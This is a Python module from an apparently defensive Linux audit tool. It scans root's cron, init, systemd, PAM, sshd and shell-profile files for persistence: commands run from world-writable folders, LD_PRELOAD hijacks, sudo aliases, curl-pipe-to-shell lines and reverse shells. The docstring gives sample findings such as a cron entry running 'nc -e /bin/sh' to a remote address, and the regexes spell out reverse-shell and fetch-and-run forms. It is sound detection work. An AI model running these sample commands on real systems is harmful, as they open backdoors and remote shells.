"""What files of root's have run that no package and no administrator puts there. Sources: the files' own manual pages.

    {"places": ["/etc/rc.local: /tmp/run"], "libraries": ["/etc/profile.d/a.sh: export LD_PRELOAD=/tmp/a.so"],
     "names": ["/etc/bash.bashrc: alias sudo=/opt/sudo"], "fetched": ["/etc/rc.local: curl http://a.example | sh"],
     "shells": ["/etc/cron.d/a: * * * * * root nc -e /bin/sh 192.0.2.1 4444"]}

`places` are commands in folders that everybody may write to, `libraries` what is loaded into programs from elsewhere than the
system's folders, `names` programs that ask for passwords and mean others, `fetched` what is run as it comes from the network,
`shells` what gives a shell to the network, or hides from readers what it runs. Units, jobs, hooks of apt, of the network, of
kernels, rules of udev, rotation of logs, PAM, rsyslog, sshd, the kernel's own commands and what logins and starts read.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from setright.model import Plain, Tree, Unknown
from setright.surfaces.linux.evidence import Evidence
from setright.surfaces.linux.transport import Ask

FILES = (
    *("/etc/rc.local", "/etc/anacrontab", "/etc/crontab", "/etc/cron.d/*", "/etc/hosts.allow", "/etc/hosts.deny"),
    *("/etc/apt/apt.conf", "/etc/apt/apt.conf.d/*", "/etc/logrotate.d/*", "/etc/modprobe.d/*.conf", "/etc/pam.d/*"),
    *("/etc/network/interfaces", "/etc/network/interfaces.d/*", "/etc/rsyslog.conf", "/etc/rsyslog.d/*.conf"),
    *("/etc/sysctl.conf", "/etc/sysctl.d/*.conf", "/etc/systemd/system/*.service", "/etc/systemd/system/*.service.d/*.conf"),
    *("/etc/udev/rules.d/*.rules", "/etc/update-motd.d/*", "/etc/profile", "/etc/profile.d/*.sh", "/etc/bash.bashrc"),
    *(f"/etc/cron.{often}/*" for often in ("hourly", "daily", "weekly", "monthly")),
    *("/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/init.d/*", "/etc/systemd/system-generators/*"),
    *(f"/etc/network/if-{when}.d/*" for when in ("pre-up", "up", "down", "post-down")),
    *("/etc/dhcp/dhclient-enter-hooks.d/*", "/etc/dhcp/dhclient-exit-hooks.d/*", "/etc/NetworkManager/dispatcher.d/*"),
    *("/etc/kernel/postinst.d/*", "/etc/ssh/sshrc", "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/*.conf"),
    *("/etc/bashrc", "/root/.bashrc", "/root/.profile", "/root/.bash_profile", "/root/.bash_login"),
)
ASKS = tuple(Ask("file", name) for name in FILES)
OPEN = r"(?:/tmp|/var/tmp|/dev/shm)/[\w./%+-]*[\w/%+-]"
WORDS = r"(?:exec|nohup|setsid|source|then|else|do|command|spawn|twist|install\s+\S+|(?:ba|da|z|k)?sh|python[0-9.]*|perl|ruby|php)"
BEFORE = (
    *(r"^(?:\S+\s+\d+\s+\S+\s+)?", r"[;&|(`{]\s*", rf"\b{WORDS}\s+(?:-\w+\s+)*", r"(?:^|\s)\.\s+", r"^\^", r"\s\^"),
    *(r"^Exec\w+\s*=\s*[-@:+!|]*", r"\bbinary=", r"\bRUN\S*?=\s*", r"\bPROGRAM\s*==?\s*", r"(?:Invoke|Pkgs)\S*\s*\{?\s*"),
    *(r"\bpam_exec\.so\s+(?:\S+\s+)*", r"^kernel[./](?:modprobe|hotplug|poweroff_cmd|core_pattern)\s*=\s*\|?\s*"),
    *(r"(?i:^Subsystem\s+\S+|^(?:AuthorizedKeys|AuthorizedPrincipals|Force)Command)\s+",),
    *(r"^[-*0-9,/]+(?:\s+[-*0-9,/A-Za-z]+){4}\s+(?:\w+\s+)?", r"^@\w+\s+(?:\w+\s+)?", r"^(?:pre-|post-)?(?:up|down)\s+"),
)
PLACE = re.compile(rf"(?:{'|'.join(BEFORE)})[\"']?{OPEN}(?=[\"'\s;&|]|$)")
SCRIPT = re.compile(r"(?ms)^\s*(?:(?:pre|post)rotate|preremove|(?:first|last)action)\s*$(.*?)^\s*endscript\s*$")
LIBRARY = re.compile(r"\bLD_(?:PRELOAD|AUDIT)=[\"']?(?!/usr/|/lib|/opt/|[\"'\s]|$|\$\{?SNAP)[^\s\"']")
NAME = re.compile(
    r"^alias\s+(sudo|su|doas|ssh|passwd|login|gpg)=[\"']?(?!\1[\s\"']|[\"'\s]|/usr/bin/\1\b|command\s)|^(?:sudo|su|doas|passwd)\s*\(\)"
)
FETCHED = re.compile(
    r"\b(?:curl|wget)\b[^;&|]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:(?:ba|da|z|k)?sh|python[0-9.]*|perl)\b|<\(\s*(?:curl|wget)\b"
)
RUN = r"\|\s*(?:sudo\s+)?(?:/\S*/)?(?:(?:ba|da|z|k)?sh|python[0-9.]*|perl)\b"
SHELL = re.compile(
    r"\b(?:ba|da|z|k)?sh\s+-\w*i\w*\b[^|;]*/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b(?:\s+\S+)*\s+-\w*[ec]\s*\S*sh\b"
    rf"|\b(?:nc|ncat|netcat|openssl\s+s_client)\b[^;&|]*{RUN}|(?i:\bsocat\b.*\b(?:exec|system):\S*sh\b)"
    rf"|\b(?:base(?:64|32)\s+(?:-\w*d|--decode)|xxd\s+-\w*r|openssl\s+\w+\s+(?:\S+\s+)*-d)\b[^;&|]*{RUN}"
    r"|\beval\b.*\bbase64\s+(?:-\w*d|--decode)\b|\bsocket\b.*\b(?:pty\.spawn|os\.dup2)\b|\bperl\s+-\w*e\b.*\bSocket\b.*\bexec\b"
    r"|^ExecStart\s*=\s*[-@:+!]*(?:/usr)?/bin/(?:ba|da)?sh(?:\s+-i)?$"
)
SORTS = {"places": PLACE, "libraries": LIBRARY, "names": NAME, "fetched": FETCHED, "shells": SHELL}


def tell(evidence: Evidence) -> Tree:
    """What could not be read leaves open what there is."""
    told: dict[str, list[Plain]] = {}
    for reply in (reply for ask in ASKS for reply in evidence.all(ask)):
        for line in _lines(reply.name, (reply.data or b"").decode(errors="replace")):
            for sort in (sort for sort, found in SORTS.items() if found.search(line)):
                told.setdefault(sort, []).append(f"{reply.name}: {line[:120]}")
    barred = evidence.barred(*ASKS)
    untold = {sort: Unknown(barred) for sort in SORTS} if barred else {}
    return {"of": "root"} | untold | {sort: list(dict.fromkeys(rows)) for sort, rows in told.items()}


def _lines(path: str, text: str) -> Iterator[str]:
    """Those that say something; of the rotation of logs the scripts alone, since its other lines name logs."""
    whole = "".join(SCRIPT.findall(text)) if path.startswith("/etc/logrotate") else text
    for line in whole.replace("\\\n", " ").splitlines():
        if (said := line.strip()) and not said.startswith(("#", ";", "//")):
            yield said
